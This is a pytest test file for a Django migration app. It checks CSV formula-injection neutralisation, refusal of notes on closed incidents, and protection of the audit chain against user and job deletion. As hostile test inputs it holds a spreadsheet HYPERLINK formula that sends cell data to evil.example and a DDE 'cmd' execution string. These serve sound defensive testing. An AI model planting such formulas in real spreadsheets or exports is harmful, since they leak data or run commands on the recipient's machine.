"""CSV exports that cannot execute, and an audit trail that deleting users or jobs cannot
break (issue 12, reproductions 4 and 5; notes on a closed incident)."""

import pytest
from django.db.models import ProtectedError
from django.test import Client

from migrations_app import audit, csvexport, fse, incidents, notifications
from migrations_app.actions import ActionRefused
from migrations_app.choices import AuditCategory, IncidentKind
from migrations_app.models import AuditEvent, Incident, MigrationJob
from tests.conftest import PASSWORD

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_is_neutralised(start):
    assert csvexport.neutralise(start + "1+1") == "'" + start + "1+1"


def test_harmless_cells_are_left_alone():
    assert csvexport.neutralise("Cabinet Durand") == "Cabinet Durand"
    assert csvexport.neutralise(42) == 42
    assert csvexport.neutralise("") == ""


def _cells(text):
    import csv
    import io

    return [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]


def test_the_fse_export_carries_no_live_formula(job, alice):
    job.customer.name = HOSTILE
    job.customer.save()
    audit.record("fse.decision", category=AuditCategory.FSE, actor=alice, job=job,
                 reason="@SUM(1+1)", target="-2+3")  # fmt: skip
    cells = _cells(fse.timeline_csv([MigrationJob.objects.get(pk=job.pk)]))
    assert "'" + HOSTILE in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert not any(c.startswith(csvexport._FORMULA_STARTS) for c in cells)


def test_the_incidents_export_carries_no_live_formula(job, alice):
    job.customer.name = HOSTILE
    job.customer.save()
    incidents.open_incident(job, alice, kind=IncidentKind.values[0], cpam="+33",
                            description="\tcmd|' /C calc'!A0")  # fmt: skip
    cells = _cells(incidents.incidents_csv(Incident.objects.all()))
    assert "'" + HOSTILE in cells and "'+33" in cells
    assert not any(c.startswith(csvexport._FORMULA_STARTS) for c in cells)


def test_no_note_on_a_closed_incident(job, bob):
    incident = incidents.open_incident(job, bob, kind=IncidentKind.values[0], cpam="",
                                       description="rejet")  # fmt: skip
    incidents.close_incident(incident, bob, "réglé")
    with pytest.raises(ActionRefused) as refused:
        incidents.add_note(incident, bob, "encore une note")
    assert refused.value.status == 409
    assert "clos" in str(refused.value)


def test_deleting_a_user_or_a_job_named_by_the_audit_is_refused(job, alice):
    assert AuditEvent.objects.filter(job=job).exists()
    with pytest.raises(ProtectedError):
        alice.delete()
    with pytest.raises(ProtectedError):
        MigrationJob.objects.get(pk=job.pk).delete()
    assert audit.verify_chain()[1] is None


@pytest.fixture
def root(db, django_user_model):
    return django_user_model.objects.create_superuser("root", "root@example.test", PASSWORD)


def test_admin_deletes_are_refused_in_french_and_the_chain_stays_green(job, alice, root):
    admin = Client()
    admin.force_login(root)
    for url in (f"/admin/auth/user/{alice.pk}/delete/",
                f"/admin/migrations_app/migrationjob/{job.pk}/delete/"):  # fmt: skip
        response = admin.post(url, {"post": "yes"}, follow=True)
        assert response.status_code == 200
        assert "n’est jamais supprimé" in response.content.decode()
    for changelist, pk in (("auth/user", alice.pk), ("migrations_app/migrationjob", job.pk)):
        response = admin.post(f"/admin/{changelist}/",
                              {"action": "delete_selected", "_selected_action": [pk], "post": "yes"})  # fmt: skip
        assert response.status_code in (200, 302)
    assert type(alice).objects.filter(pk=alice.pk).exists()
    assert MigrationJob.objects.filter(pk=job.pk).exists()
    # Deactivating the departed technician is the way, and keeps the chain whole.
    response = admin.get(f"/admin/auth/user/{alice.pk}/change/")
    assert response.status_code == 200
    alice.is_active = False
    alice.save()
    assert audit.verify_chain()[1] is None


def test_the_job_finished_payload_carries_the_chains_head(job):
    payload = notifications.build_payload("job_finished", job)
    last = AuditEvent.objects.order_by("-id").first()
    assert payload["audit_head"] == {
        "id": last.pk,
        "created_at": last.created_at.isoformat(),
        "hash": last.hash,
    }
    assert "audit_head" not in notifications.build_payload("step_failed", job)
